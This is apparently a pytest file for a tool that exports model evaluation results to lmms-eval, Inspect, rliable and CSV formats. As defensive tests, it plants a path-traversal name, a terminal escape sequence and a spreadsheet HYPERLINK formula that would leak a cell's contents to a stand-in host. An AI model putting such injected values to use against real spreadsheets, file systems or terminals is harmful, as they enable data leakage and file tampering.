"""Answers in other tools' formats; read by these tools where they are installed (`make test-lmms-eval`)."""

import csv
import importlib.util
import json
import math
import re

import numpy as np
import pandas as pd
import pytest

import bridgelab
from bridgelab.cli import main as cli
from bridgelab.export import FORMATS
from bridgelab.export.write import export
from bridgelab.report.frames import write_frames
from bridgelab.runs.predictions import read_rows


def needs(package):
    return pytest.mark.skipif(
        importlib.util.find_spec(package) is None, reason=f"{package} is not installed: make test-lmms-eval"
    )


@pytest.fixture
def study(simulated):
    return simulated.write(images=12, seeds=(0, 1))


@pytest.fixture
def run(study):
    return study / "bridge=linear,seed=1"


def questions(run, kind="answer"):
    rows = read_rows(run)
    return rows[(rows["kind"] == kind) & (rows["view"] == "image")].reset_index(drop=True)


def test_each_run_and_kind_is_a_file_of_lmms_evals_samples(study, run):
    paths = export(study, "lmms-eval")
    runs = sum((path / "metrics.json").exists() for path in study.iterdir())
    assert len(paths) == len(set(paths)) == 2 * runs
    (path,) = export(run, "lmms-eval", study / "other")[:1]
    assert path.name == "bridge=linear,seed=1_samples_world_answer.jsonl"
    assert path.read_bytes() == (study / "export" / "lmms-eval" / path.name).read_bytes()
    samples = [json.loads(line) for line in path.read_text().splitlines()]
    rows = questions(run)
    assert [sample["doc_id"] for sample in samples] == list(range(len(rows)))
    for column, values in (
        ("score", [sample["score"] for sample in samples]),
        ("prediction", [sample["filtered_resps"][0] for sample in samples]),
        ("target", [sample["target"] for sample in samples]),
        ("tag_type", [sample["tags"]["type"] for sample in samples]),
    ):
        assert values == rows[column].tolist()


@pytest.mark.parametrize("form", ["lmms-eval", "inspect"])
def test_files_stay_in_their_folder_whatever_a_record_names(study, run, change, form, tmp_path):
    change(run, benchmark="../../of/me")
    rows = pd.read_parquet(run / "predictions.parquet")
    rows["kind"] = rows["kind"].replace("caption", "/caption")
    rows.to_parquet(run / "predictions.parquet")
    out = tmp_path / "out"
    (out / f"{run.name}_samples_..").mkdir(parents=True)  # what a path through it would need
    (out / f"{run.name}_..").mkdir()
    assert {path.parent for path in export(run, form, out)} == {out}
    assert sum(path.is_file() for path in tmp_path.rglob("out/*")) == 2


@pytest.mark.parametrize("form", ["lmms-eval", "inspect"])
def test_captions_that_have_no_score_each_are_left_out(run, change, form, caplog):
    assert any("world_caption" in path.name for path in export(run, form))
    assert not caplog.text
    change(run, metrics={"test/accuracy": 0.5, "test/cider": 0.9})
    (path,) = export(run, form)
    assert "world_answer" in path.name
    assert f"captions of {run.name} are left out" in caplog.text


@pytest.mark.parametrize("form", ["lmms-eval", "inspect"])
def test_numbers_that_json_has_no_word_for_are_left_out(run, form):
    def refuse(word):
        raise AssertionError(word)

    rows = pd.read_parquet(run / "predictions.parquet")
    rows.loc[0, "likelihood"] = -np.inf
    rows["tag_far"] = np.inf
    for _ in range(2):
        rows.to_parquet(run / "predictions.parquet")
        for path in export(run, form):
            for line in path.read_text().splitlines():
                json.loads(line, parse_constant=refuse)
        rows = rows.drop(columns=["likelihood"], errors="ignore")  # which a reader does not need


@needs("lmms_eval")
@pytest.mark.filterwarnings("ignore")
def test_lmms_eval_takes_a_file_of_samples_as_a_baseline(study, run):
    from lmms_eval.baselines import load_baseline

    path = next(path for path in export(run, "lmms-eval") if path.name.endswith("_answer.jsonl"))
    scores, _ = load_baseline(str(path), "world_answer")
    assert scores == dict(enumerate(questions(run)["score"]))


def test_a_log_of_inspect_holds_each_example_and_the_mean(run):
    path = next(path for path in export(run, "inspect") if path.name.endswith("_answer.json"))
    log, rows = json.loads(path.read_text()), questions(run)
    assert log["eval"]["model"] == "bridgelab/linear"
    assert log["eval"]["model_args"] == {"run": "bridge=linear,seed=1", "seed": 1, "data_seed": 0}
    metrics = log["results"]["scores"][0]["metrics"]
    assert metrics["mean"]["value"] == pytest.approx(rows["score"].mean())
    assert metrics["stderr"]["value"] == pytest.approx(rows["score"].sem())
    assert [sample["id"] for sample in log["samples"]] == rows["id"].tolist()


@needs("inspect_ai")
@pytest.mark.filterwarnings("ignore")
def test_inspect_reads_its_log(run):
    from inspect_ai.log import read_eval_log

    for path in export(run, "inspect"):
        log = read_eval_log(str(path))
        rows = questions(run, log.eval.task.removeprefix("world_"))
        assert (log.status, log.results.total_samples) == ("success", len(rows))
        assert [sample.id for sample in log.samples] == rows["id"].tolist()
        assert [sample.scores["bridgelab"].as_float() for sample in log.samples] == rows["score"].tolist()
        assert [sample.output.completion for sample in log.samples] == rows["prediction"].tolist()


def test_rliable_gets_runs_by_kinds_of_questions(study, run):
    (path,) = export(study, "rliable")
    content = json.loads(path.read_text())
    assert content["tasks"] == ["exist", "count", "query", "compare_attribute", "compare_integer"]
    linear = np.array(content["scores"]["linear"])
    assert linear.shape == (2, 5)
    rows = questions(run)
    assert linear[1, 1] == pytest.approx(rows[rows["tag_type"] == "count"]["score"].mean())
    assert linear[1, 3] == pytest.approx(rows[rows["tag_type"] == "compare_shape"]["score"].mean())


@needs("rliable")
@pytest.mark.filterwarnings("ignore")
def test_rliable_takes_its_scores(study):
    from rliable import library, metrics

    content = json.loads(export(study, "rliable")[0].read_text())
    scores = {name: np.array(rows) for name, rows in content["scores"].items()}
    estimates, intervals = library.get_interval_estimates(
        scores, lambda one: np.array([metrics.aggregate_mean(one)]), reps=50
    )
    for name, own in scores.items():
        assert estimates[name][0] == pytest.approx(own.mean())
        assert intervals[name][0, 0] <= own.mean() <= intervals[name][1, 0]


def test_a_table_has_all_answers_of_all_seeds(study, run):
    (path,) = export(study, "csv")
    table = pd.read_csv(path)
    assert set(table["seed"]) == {0, 1}
    own = table[(table["run"] == run.name) & (table["view"] == "image") & (table["kind"] == "answer")]
    assert own["score"].tolist() == questions(run)["score"].tolist()


def test_no_cell_of_a_table_is_a_formula(study, run):
    """Prompts, answers and tags are those of the data, and of whoever sent the study."""
    path, formula = run / "predictions.parquet", '=HYPERLINK("http://x/"&A1)'
    rows = pd.read_parquet(path).assign(tag_case=formula)
    rows.loc[0, ["prompt", "prediction"]] = formula
    rows.to_parquet(path)
    read = bridgelab.read_study(study)
    for table in (*export(study, "csv"), *export(run, "csv"), write_frames(read, read.answers)[2]):
        head, *cells = csv.reader(table.read_text().splitlines())
        (row,) = [row for row in cells if row[head.index("prediction")].endswith(formula)]
        assert row.count(f"'{formula}") == 3
        texts = (cell for row in (head, *cells) for cell in row)
        assert {cell for cell in texts if cell[:1] in tuple("=+@-") and not _is_number(cell)} == set()
    assert formula in set(pd.read_parquet(study / "answers.parquet")["prediction"])


def _is_number(cell):
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def test_the_command_prints_the_paths(run, tmp_path, capsys):
    assert cli.main(["export", str(run), "--format", "csv", "--out", str(tmp_path / "out\x1b[2J")]) == 0
    assert capsys.readouterr().out == f"{tmp_path}/out\N{REPLACEMENT CHARACTER}[2J/answers.csv\n"


def test_what_cannot_be_exported_is_refused(study, run, simulated, tmp_path, capsys, caplog):
    captions = simulated.write("captions", bridges={"linear": {}}, seeds=(0,), images=4)
    with pytest.raises(
        ValueError, match="answered captions alone, and rliable's tasks are kinds of questions"
    ):
        export(captions / "bridge=linear,seed=0", "rliable")
    rows = pd.read_parquet(study / "bridge=mlp,seed=1" / "predictions.parquet")
    rows.loc[0, "score"] = 3.0
    rows.to_parquet(study / "bridge=mlp,seed=1" / "predictions.parquet")
    for form in FORMATS:
        with pytest.raises(ValueError, match=r"holds score=3.0. A score lies between 0 and 1"):
            export(study / "bridge=mlp,seed=1", form)
    (run / "metrics.json").write_text("{")
    with pytest.raises(ValueError, match=r"seed=1/metrics\.json"):
        export(run, "csv")
    with caplog.at_level("WARNING"):
        (path,) = export(study, "csv")
    assert run.name not in set(pd.read_csv(path)["run"])
    assert re.search(r"left out: bridge=linear,seed=1: can't be read", caplog.text)
    assert cli.main(["export", str(tmp_path / "none"), "--format", "csv"]) == 2
    assert re.search("there is no folder", capsys.readouterr().err)
    with pytest.raises(SystemExit):
        cli.main(["export", str(run), "--format", "inspct"])
    assert "Did you mean 'inspect'?" in capsys.readouterr().err
